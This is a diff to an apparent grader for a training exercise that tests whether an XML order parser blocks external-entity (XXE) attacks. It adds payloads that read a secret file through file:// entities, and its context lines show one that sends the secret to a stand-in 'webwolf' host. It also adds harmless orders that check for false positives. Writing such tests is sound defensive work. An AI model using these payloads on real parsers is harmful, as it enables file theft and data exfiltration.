@@ -84,6 +84,7 @@ export const checks = defineChecks<Facts>({
         attackWith(trial, `${stealing(trial.facts.secret.path, 'http://webwolf/landing?text=')}\n%send;`, [
           '<!DOCTYPE order SYSTEM "http://webwolf/files/NAME"><order/>',
           '<!DOCTYPE order PUBLIC "x" "https://webwolf/files/NAME"><order/>',
+          `<!DOCTYPE order SYSTEM "file://${trial.facts.secret.path}"><order/>`,
         ]),
     },
     {
@@ -97,6 +98,19 @@ export const checks = defineChecks<Facts>({
         ]),
     },
     {
+      id: 'other-start',
+      kind: 'attack',
+      title: { vi: 'Tài liệu bắt đầu bằng thứ khác', en: 'A document that begins with something else' },
+      run: (trial) => {
+        const document = `<!DOCTYPE order [<!ENTITY e SYSTEM "file://${trial.facts.secret.path}">]><order>&e;</order>`;
+        return attackWith(
+          trial,
+          undefined,
+          ['<?xml version="1.0"?>\n', '\n\n', '<!-- x -->', '<?x y?>'].map((start) => start + document),
+        );
+      },
+    },
+    {
       id: 'orders',
       kind: 'legitimate',
       title: { vi: 'Đơn hợp lệ', en: 'Valid orders' },
@@ -105,6 +119,7 @@ export const checks = defineChecks<Facts>({
         const documents = [
           '<order><book>Số đỏ</book></order>',
           '<?xml version="1.0" encoding="UTF-8"?>\n<order school="12"><book>A &amp; B</book></order>',
+          '<order><note>DOCTYPE, ENTITY, SYSTEM, PUBLIC</note></order>',
           '<!-- http://truong.example/ --><order><note>file: đơn tháng 3</note></order>',
         ];
         for (const document of documents) {
